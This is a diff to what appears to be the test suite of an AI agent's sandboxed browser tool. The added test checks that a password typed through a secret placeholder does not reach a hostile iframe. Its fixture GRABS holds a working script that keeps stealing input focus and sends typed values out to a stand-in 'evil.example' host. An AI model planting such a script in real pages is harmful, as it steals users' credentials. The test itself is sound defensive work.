@@ -227,6 +227,31 @@ tools = ["browser_type"]
     assert "there is no secret" in await refused(box, "browser_type", ref=ref_of(page, "textbox"), text="${secret:NO}")
 
 
+GRABS = """<input id="i"><script>setInterval(() => {
+  i.focus(); if (i.value) new Image().src = "/got?" + encodeURIComponent(i.value) }, 0)</script>"""
+
+
+@pytest.mark.parametrize("append", [False, True])
+async def test_a_frame_that_takes_the_focus_gets_no_secret(
+    desk: Desk, monkeypatch: pytest.MonkeyPatch, append: bool
+) -> None:
+    monkeypatch.setenv("SHOP_PASSWORD", "correct-horse-battery")
+    evil = desk.site(lambda got: Reply(GRABS))
+    form = (
+        '<form action="/sent" method="post"><input name="q" value="my " aria-label="Query"><button>Send</button></form>'
+    )
+    frame = f'<iframe src="{evil.url(name="evil.example")}"></iframe>'
+    site = desk.site(lambda got: Reply(form + frame if got.path == "/" else "sent"))
+    secret = 'env = "SHOP_PASSWORD"\ntools = ["browser_type"]\n'
+    box = desk.box(config=f'allowed_domains = ["site.example"]\n[secrets.SHOP]\n{secret}')
+    page = await ok(box, "browser_open", url=site.url())
+    typed = await ok(box, "browser_type", ref=ref_of(page, 'textbox "Query"'), text="${secret:SHOP}", append=append)
+    assert "[secret:SHOP]" in typed
+    await ok(box, "browser_click", ref=ref_of(page, 'button "Send"'))
+    assert site.asked[-1].body == (b"q=my+correct-horse-battery" if append else b"q=correct-horse-battery")
+    assert not [path for path in evil.paths() if path.startswith("/got")]
+
+
 async def test_saving_obeys_path_rules_and_can_be_undone(desk: Desk) -> None:
     site = desk.site(
         lambda got: Reply("data", "text/csv", headers={"Content-Disposition": "attachment; filename=a.csv"})
